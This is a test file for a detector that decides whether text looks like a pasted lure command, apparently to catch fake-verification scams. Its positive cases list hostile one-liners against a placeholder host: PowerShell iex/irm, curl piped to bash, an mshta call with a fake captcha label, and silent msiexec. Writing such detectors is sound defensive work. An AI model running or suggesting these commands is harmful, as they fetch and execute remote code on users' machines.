import { describe, expect, test } from 'vitest';
import { looksLikeCommand } from './command-text.ts';

describe('text of a lure is taken for a command', () => {
  test.each([
    'powershell -w hidden -c "iex (irm https://example.org/a)"',
    'PowerShell.exe -EncodedCommand SQBFAFgA',
    'cmd /c start /min powershell -nop',
    'mshta https://example.org/verify.hta # I am not a robot: 4821',
    'curl -s https://example.org/i.sh | bash',
    'bash -c "$(curl -fsSL https://example.org/i.sh)"',
    'echo aGk= | base64 -d | sh',
    '"C:\\Windows\\System32\\cmd.exe" /c echo',
    'msiexec /i https://example.org/a.msi /qn',
    'osascript -e "do shell script"',
    '%COMSPEC% /c ping',
    'wget https://example.org/x',
  ])('%s', (text) => expect(looksLikeCommand(text)).toBe(true));
});

describe('ordinary text is not', () => {
  test.each([
    '',
    'https://example.org/article?id=5',
    'Start the day with a smile',
    'Read more at https://example.org/story',
    'SAVE20',
    'The net result is good.',
    '0x52908400098527886E0F7030069857D2E4169EE7',
    'A node is a point in a graph; a shell is hard.',
  ])('%s', (text) => expect(looksLikeCommand(text)).toBe(false));
});
